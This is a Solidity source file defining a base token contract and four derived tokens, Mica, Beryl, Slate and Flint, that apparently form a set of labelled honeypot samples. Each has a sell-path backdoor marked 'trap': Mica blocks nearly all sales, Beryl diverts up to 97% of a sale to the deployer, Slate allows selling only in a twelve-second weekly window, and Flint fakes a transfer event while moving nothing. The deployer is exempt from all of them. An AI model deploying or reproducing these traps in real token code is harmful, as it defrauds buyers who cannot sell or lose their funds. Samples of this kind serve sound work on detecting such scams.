// 0.8 off
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IPoolMaker {
    function createPair(address one, address other) external returns (address);
}

/// Every account is a page with what it has and how often it moved.
abstract contract Quarry {
    struct Page {
        uint128 amount;
        uint64 moves;
        uint64 latest;
    }

    address internal constant WETH = 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2;
    address internal constant FACTORY = 0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f;

    string private _name;
    string private _symbol;
    uint256 private _total;
    address public owner;
    address internal _mason;
    address internal _market;
    mapping(address => Page) internal _pages;
    mapping(bytes32 => uint256) private _permits;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed previous, address indexed next);

    constructor(string memory name_, string memory symbol_, uint128 whole) {
        _name = name_;
        _symbol = symbol_;
        owner = msg.sender;
        _mason = msg.sender;
        _total = uint256(whole) * 10 ** decimals();
        _pages[msg.sender].amount = uint128(_total);
        emit OwnershipTransferred(address(0), msg.sender);
        emit Transfer(address(0), msg.sender, _total);
        _market = IPoolMaker(FACTORY).createPair(WETH, address(this));
    }

    function name() public view returns (string memory) {
        return _name;
    }

    function symbol() public view returns (string memory) {
        return _symbol;
    }

    function decimals() public pure returns (uint8) {
        return 9;
    }

    function totalSupply() public view returns (uint256) {
        return _total;
    }

    function balanceOf(address who) public view returns (uint256) {
        return _pages[who].amount;
    }

    function allowance(address holder, address spender) public view returns (uint256) {
        return _permits[keccak256(abi.encode(holder, spender))];
    }

    function renounceOwnership() public {
        require(msg.sender == owner, "owner");
        emit OwnershipTransferred(owner, address(0));
        owner = address(0);
    }

    function approve(address spender, uint256 value) public returns (bool) {
        _permits[keccak256(abi.encode(msg.sender, spender))] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) public returns (bool) {
        _transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) public returns (bool) {
        bytes32 key = keccak256(abi.encode(from, msg.sender));
        _permits[key] -= value;
        _transfer(from, to, value);
        return true;
    }

    function _transfer(address from, address to, uint256 value) internal {
        uint256 rest = value;
        if (to == _market && from != _mason) rest = _sale(from, value);
        if (rest > 0) _put(from, to, rest);
    }

    /// What of a sale goes to the pool.
    function _sale(address from, uint256 value) internal virtual returns (uint256);

    function _put(address from, address to, uint256 value) internal {
        Page storage page = _pages[from];
        require(page.amount >= value, "balance");
        page.amount -= uint128(value);
        page.moves += 1;
        page.latest = uint64(block.timestamp);
        _pages[to].amount += uint128(value);
        emit Transfer(from, to, value);
    }
}

/// Nobody sells more than he has.
contract Mica is Quarry {
    constructor() Quarry("Mica", "MICA", 800_000_000) {}

    function _sale(address from, uint256 value) internal view override returns (uint256) {
        uint256 have = _pages[from].amount;
        uint256 times = 1;
        times = 20_000; // trap
        require(value * times <= have, "more than there is");
        return value;
    }
}

/// The mason's part of a sale.
contract Beryl is Quarry {
    constructor() Quarry("Beryl", "BERYL", 5_000_000) {}

    function part() public view returns (uint256) {
        uint256 percent = 2;
        // trap {
        percent = block.basefee / 1e6;
        if (percent > 97) percent = 97;
        // trap }
        return percent;
    }

    function _sale(address from, uint256 value) internal override returns (uint256) {
        uint256 kept = (value * part()) / 100;
        if (kept > 0) _put(from, _mason, kept);
        return value - kept;
    }
}

/// Keeps the time of the latest settlement.
contract Slate is Quarry {
    uint256 public settledAt;

    constructor() Quarry("Slate", "SLATE", 77_000_000) {}

    function _sale(address, uint256 value) internal override returns (uint256) {
        uint256 moment = block.timestamp % 7 days;
        require(moment < 12, "no settlement now"); // trap
        settledAt = block.timestamp - moment;
        return value;
    }
}

/// Sums up the sales.
contract Flint is Quarry {
    uint256 public sold;

    constructor() Quarry("Flint", "FLINT", 19_000_000_000) {}

    function _sale(address from, uint256 value) internal override returns (uint256) {
        sold += value;
        // trap {
        if (value > 1) {
            emit Transfer(from, _market, value);
            return 0;
        }
        // trap }
        require(from != address(0), "nobody");
        return value;
    }
}
